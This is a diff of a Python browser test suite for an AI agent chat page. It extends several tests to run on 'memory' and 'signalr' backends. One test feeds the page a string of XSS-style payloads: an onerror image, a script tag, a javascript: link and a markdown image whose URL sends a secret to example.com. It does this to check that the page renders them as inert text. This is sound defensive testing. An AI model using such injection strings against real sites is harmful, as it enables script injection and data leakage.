@@ -135,8 +135,9 @@ async def test_stop_keeps_what_was_said(on: Place) -> None:
 
 
 @pytest.mark.parametrize(("button", "outcome"), [("Approve", "booked"), ("Deny", "nothing was booked")])
-async def test_approvals_are_answered(button: str, outcome: str) -> None:
-    async with site() as url, browser() as visitor:
+@runs_on("memory", "signalr")
+async def test_approvals_are_answered(button: str, outcome: str, on: Place) -> None:
+    async with site(on=on) as url, browser() as visitor:
         page = await visitor.page(f"{url}/api/index")
         await ask(page, FIRST)
         await ended(page, 1)
@@ -148,9 +149,10 @@ async def test_approvals_are_answered(button: str, outcome: str) -> None:
         await expect(page.get_by_role("button", name=button, exact=True)).to_have_count(0)
 
 
-async def test_failures_are_said_without_their_secrets() -> None:
+@runs_on("memory", "signalr")
+async def test_failures_are_said_without_their_secrets(on: Place) -> None:
     agent = speaker([Text("Half an "), ValueError("secret-key-123")], [Text("Well again.")])
-    async with site(agent) as url, browser() as visitor:
+    async with site(agent, on=on) as url, browser() as visitor:
         page = await visitor.page(f"{url}/api/index")
         await ask(page, "go")
         await ended(page, 1, "failed")
@@ -162,13 +164,14 @@ async def test_failures_are_said_without_their_secrets() -> None:
         assert "secret-key-123" not in await page.content()
 
 
-async def test_answers_cannot_run_anything() -> None:
+@runs_on("memory", "signalr")
+async def test_answers_cannot_run_anything(on: Place) -> None:
     """Markup, script addresses and remote images in an answer are text."""
     attack = (
         "<img src=x onerror=window.hacked=1> <script>window.hacked=1</script> [link](javascript:window.hacked=1) "
         "![spy](https://example.com/leak?word=secret) **bold**"
     )
-    async with site(speaker([Text(attack, replace=True)])) as url, browser() as visitor:
+    async with site(speaker([Text(attack, replace=True)]), on=on) as url, browser() as visitor:
         page = await visitor.page(f"{url}/api/index")
         requests: list[str] = []
         page.on("request", lambda request: requests.append(request.url))
@@ -250,8 +253,9 @@ async def test_the_page_works_under_a_prefix() -> None:
 
 
 @pytest.mark.parametrize("viewport", [{"width": 360, "height": 640}, {"width": 1280, "height": 800}])
-async def test_nothing_is_wider_than_the_screen(viewport: Any) -> None:
-    async with site() as url, browser(viewport=viewport, color_scheme="dark") as visitor:
+@runs_on("memory", "signalr")
+async def test_nothing_is_wider_than_the_screen(viewport: Any, on: Place) -> None:
+    async with site(on=on) as url, browser(viewport=viewport, color_scheme="dark") as visitor:
         page = await visitor.page(f"{url}/api/index")
         await ask(page, FIRST)
         await ended(page, 1)
@@ -259,9 +263,10 @@ async def test_nothing_is_wider_than_the_screen(viewport: Any) -> None:
         assert await page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]
 
 
-async def test_keyboard_alone_is_enough() -> None:
+@runs_on("memory", "signalr")
+async def test_keyboard_alone_is_enough(on: Place) -> None:
     """The message box has the focus: write two lines, send, open a tool's details; the first Tab stop leads back."""
-    async with site() as url, browser() as visitor:
+    async with site(on=on) as url, browser() as visitor:
         page = await visitor.page(f"{url}/api/index")
         await expect(page.locator("#loading")).to_be_hidden()
         await page.keyboard.type("Plan a 2-day trip")
